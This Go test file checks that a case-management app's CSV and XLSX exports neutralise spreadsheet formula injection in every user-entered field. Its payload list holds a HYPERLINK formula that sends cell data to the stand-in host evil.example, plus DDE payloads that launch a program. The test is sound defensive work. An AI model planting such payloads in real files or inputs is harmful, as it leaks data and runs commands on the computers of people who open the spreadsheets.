package app

import (
	"himoya/views"

	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"himoya/models"
)

// formulaPayloads are texts a spreadsheet would run as formulas: one for each character
// that starts a formula.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?leak="&A2,"Open")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
}

// formulaStart is what a spreadsheet reads as the start of a formula (OWASP's list).
const formulaStart = "=+-@\t\r"

// plainNumber is a cell a spreadsheet reads as a number: not a formula, even with a sign.
var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// wantDownloads are the files for spreadsheets (and the PDF) that the route table serves,
// as "path kind[ public]". The sweep below finds them by downloading every GET route: a new
// download route shows up as a difference here, so that whoever adds it sees this test.
var wantDownloads = []string{
	"/admin/audit.csv csv",
	"/api/v1/reports csv", "/api/v1/reports csv public", "/api/v1/reports pdf", "/api/v1/reports pdf public",
	"/api/v1/reports xlsx", "/api/v1/reports xlsx public",
	"/cases/export.csv csv",
	"/reports/export csv", "/reports/export csv public", "/reports/export pdf", "/reports/export pdf public",
	"/reports/export xlsx", "/reports/export xlsx public",
}

// TestEveryExportNeutralisesFormulas puts a formula in every text that people type and that
// reaches a file for spreadsheets — every taxonomy label (one term added through the admin
// page), an event name, a caller's name, phone and safe-contact text, a summary, a city, an
// account's e-mail, a request id — then downloads every GET route of the route table, as an
// admin who is also a supervisor, with every report format and version. Each CSV and XLSX
// file is parsed: no text cell starts with a formula character unguarded, no cell is a
// formula, numbers are numeric (a fall from the previous period stays a negative number in
// XLSX), and the guarded payloads are there (so the check saw them).
func TestEveryExportNeutralisesFormulas(t *testing.T) {
	e := newTestEnv(t)
	ctx := context.Background()
	loc := e.Store.Loc
	e.user("=admin@example.org", models.RoleAdmin) // an admin who is also a supervisor
	e.user("+cw@example.org", models.RoleCaseworker)
	admin, err := e.Store.UserByEmail(ctx, "=admin@example.org")
	if err != nil {
		t.Fatal(err)
	}
	b := e.login("=admin@example.org")
	tok := e.token("=admin@example.org")
	payload := func(i int) string { return formulaPayloads[i%len(formulaPayloads)] }

	// Every label of the taxonomy is a formula; one more category is added through the page.
	tax, err := e.Store.Taxonomy(ctx)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, terms := range tax.Terms {
		for _, term := range terms {
			n++
			if _, err := e.Store.UpdateTerm(ctx, admin, term.ID, models.TermLabels{EN: payload(n) + " " + term.Code, RU: payload(n + 1)}, term.Active); err != nil {
				t.Fatal(err)
			}
		}
	}
	b.get("/admin/taxonomy")
	resp, _ := b.post("/admin/taxonomy", url.Values{"kind": {"category"}, "code": {"formula_probe"},
		"label_en": {payload(0)}, "label_ru": {payload(3)}})
	mustStatus(t, resp, 303, "add a category")
	b.get("/events")
	resp, _ = b.post("/events", url.Values{"name": {payload(2)}, "starts_on": {"2024-03-01"}, "region": {"RU-MOW"}})
	mustStatus(t, resp, 303, "add an event")
	evs, err := e.Store.ListEvents(ctx, true)
	if err != nil || len(evs) != 1 {
		t.Fatalf("events: %v %v", evs, err)
	}

	// Three cases yesterday and one today, so that the report of today falls by 67%. The
	// request that opens today's case sends a formula as its request id (the audit log keeps it).
	open := func(receivedAt, requestID string) caseOut {
		t.Helper()
		body := with(with(with(validCase(), "category", "formula_probe"), "event_id", evs[0].ID), "city", payload(1))
		body = with(body, "summary", payload(2))
		body = with(body, "caller", map[string]any{"name": payload(0), "phone": "+992 93 123 4567", "safe_contact": payload(3),
			"citizenship": "TJ", "language": "tg"})
		if receivedAt != "" {
			body["received_at"] = receivedAt
		}
		req := httptest.NewRequest("POST", "/api/v1/cases", strings.NewReader(mustJSON(t, body)))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Authorization", "Bearer "+tok)
		if requestID != "" {
			req.Header.Set("X-Request-ID", requestID)
		}
		var out caseOut
		if st := decodeResponse(t, e.do(req), &out); st != 201 {
			t.Fatalf("open a case: %d", st)
		}
		return out
	}
	now := time.Now().In(loc)
	yesterday := time.Date(now.Year(), now.Month(), now.Day()-1, 12, 0, 0, 0, loc).Format(time.RFC3339)
	for range 3 {
		open(yesterday, "")
	}
	cs := open("", payload(0))
	if st := e.api("POST", caseAPI(cs.ID)+"/transitions", tok, map[string]any{"to": "assigned", "assignee_email": "+cw@example.org",
		"version": cs.Version}, nil); st != 200 {
		t.Fatalf("assign: %d", st)
	}
	caseRow, err := e.Store.GetCase(ctx, admin, cs.ID)
	if err != nil {
		t.Fatal(err)
	}
	ids := map[string]string{"case": strconv.Itoa(int(cs.ID)), "caller": strconv.Itoa(int(*caseRow.CallerID)),
		"user": strconv.Itoa(int(admin.ID)), "event": strconv.Itoa(int(evs[0].ID))}

	// The sweep: every GET route, with every report format and version, over today.
	var formats []string
	for f := range views.ReportFormats {
		formats = append(formats, f)
	}
	sort.Strings(formats)
	today := now.Format("2006-01-02")
	found := map[string]bool{}
	for _, rt := range Routes() {
		if rt.Method != "GET" {
			continue
		}
		for _, format := range append([]string{""}, formats...) {
			for _, public := range []string{"", "1"} {
				q := url.Values{"from": {today}, "to": {today}}
				if format != "" {
					q.Set("format", format)
				}
				if public != "" {
					q.Set("public", public)
				}
				req := httptest.NewRequest("GET", fillParams(rt.Path, ids)+"?"+q.Encode(), nil)
				var resp *http.Response
				var data []byte
				if strings.HasPrefix(rt.Path, "/api/") {
					req.Header.Set("Authorization", "Bearer "+tok)
					resp = e.do(req)
					data, _ = io.ReadAll(resp.Body)
					resp.Body.Close()
				} else {
					var body string
					resp, body = b.send(req)
					data = []byte(body)
				}
				_, params, _ := mime.ParseMediaType(resp.Header.Get("Content-Disposition"))
				name := params["filename"]
				if resp.StatusCode != 200 || name == "" {
					continue // a page or an answer, not a download
				}
				what := fmt.Sprintf("GET %s?%s (%s)", rt.Path, q.Encode(), name)
				ct, _, _ := mime.ParseMediaType(resp.Header.Get("Content-Type"))
				kind := ""
				for f, fct := range views.ReportFormats {
					if c, _, _ := mime.ParseMediaType(fct); c == ct {
						kind = f
					}
				}
				key := rt.Path + " " + kind
				if strings.Contains(name, "-public") {
					key += " public"
				}
				found[key] = true
				switch kind {
				case "csv":
					checkCSV(t, what, data)
				case "xlsx":
					checkXLSX(t, what, data, !strings.Contains(name, "-public"))
				case "pdf": // not opened in a spreadsheet
				default:
					t.Errorf("%s: a download of type %q: teach this test to read it, and guard its text cells", what, ct)
				}
			}
		}
	}
	var got []string
	for k := range found {
		got = append(got, k)
	}
	sort.Strings(got)
	if strings.Join(got, "\n") != strings.Join(wantDownloads, "\n") {
		t.Errorf("downloads found by the sweep:\n%s\nwant:\n%s\n(a new export must write every text cell through views.SpreadsheetText)",
			strings.Join(got, "\n"), strings.Join(wantDownloads, "\n"))
	}
}

// guarded counts the cells that hold a payload behind the guard's apostrophe.
func guarded(cell string) bool {
	return len(cell) > 1 && cell[0] == '\'' && strings.IndexByte(formulaStart, cell[1]) >= 0
}

// checkCSV parses a CSV download: every cell that starts like a formula must be a plain
// number, and the payloads must be there, guarded.
func checkCSV(t *testing.T, what string, data []byte) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: not CSV: %v", what, err)
	}
	payloads := 0
	for i, rec := range recs {
		for j, cell := range rec {
			if cell != "" && strings.IndexByte(formulaStart, cell[0]) >= 0 && !plainNumber.MatchString(cell) {
				t.Errorf("%s: line %d column %d starts a formula: %q", what, i+1, j+1, cell)
			}
			if guarded(cell) {
				payloads++
			}
		}
	}
	if payloads == 0 {
		t.Errorf("%s: no guarded payload in %d lines: the test put its formulas where this export does not look", what, len(recs))
	}
}

// checkXLSX opens a workbook: no cell is a formula, every text cell that starts like one is
// guarded, every other cell is a number; the payloads are there, guarded. In the internal
// version, the fall of calls from the previous period is a negative number.
func checkXLSX(t *testing.T, what string, data []byte, internal bool) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s: not XLSX: %v", what, err)
	}
	defer f.Close()
	payloads := 0
	for _, sh := range f.GetSheetList() {
		rows, err := f.GetRows(sh, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, v := range row {
				if v == "" {
					continue
				}
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				at := fmt.Sprintf("%s: sheet %q cell %s", what, sh, cell)
				if fm, _ := f.GetCellFormula(sh, cell); fm != "" {
					t.Errorf("%s is a formula: %q", at, fm)
				}
				typ, _ := f.GetCellType(sh, cell)
				switch typ {
				case excelize.CellTypeSharedString, excelize.CellTypeInlineString:
					if strings.IndexByte(formulaStart, v[0]) >= 0 {
						t.Errorf("%s starts a formula: %q", at, v)
					}
					if guarded(v) {
						payloads++
					}
				case excelize.CellTypeUnset, excelize.CellTypeNumber:
					if _, err := strconv.ParseFloat(v, 64); err != nil {
						t.Errorf("%s: a numeric cell holds %q", at, v)
					}
				default:
					t.Errorf("%s: a cell of type %d: %q", at, typ, v)
				}
			}
		}
	}
	if payloads == 0 {
		t.Errorf("%s: no guarded payload: the test put its formulas where this export does not look", what)
	}
	if !internal {
		return
	}
	rows, _ := f.GetRows("Summary", excelize.Options{RawCellValue: true})
	for i, row := range rows {
		if len(row) > 4 && row[0] == "Calls" {
			cell, _ := excelize.CoordinatesToCellName(5, i+1)
			typ, _ := f.GetCellType("Summary", cell)
			v, err := strconv.ParseFloat(row[4], 64)
			if (typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber) || err != nil || v != -0.67 {
				t.Errorf("%s: the change of calls (1 against 3) is %q of type %d, want the number -0.67", what, row[4], typ)
			}
			return
		}
	}
	t.Errorf("%s: no row of calls on the summary", what)
}

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// decodeResponse reads a JSON answer into out and returns its status.
func decodeResponse(t *testing.T, resp *http.Response, out any) int {
	t.Helper()
	defer resp.Body.Close()
	data, _ := io.ReadAll(resp.Body)
	if err := json.Unmarshal(data, out); err != nil {
		t.Fatalf("status %d, not JSON: %v: %s", resp.StatusCode, err, data)
	}
	return resp.StatusCode
}
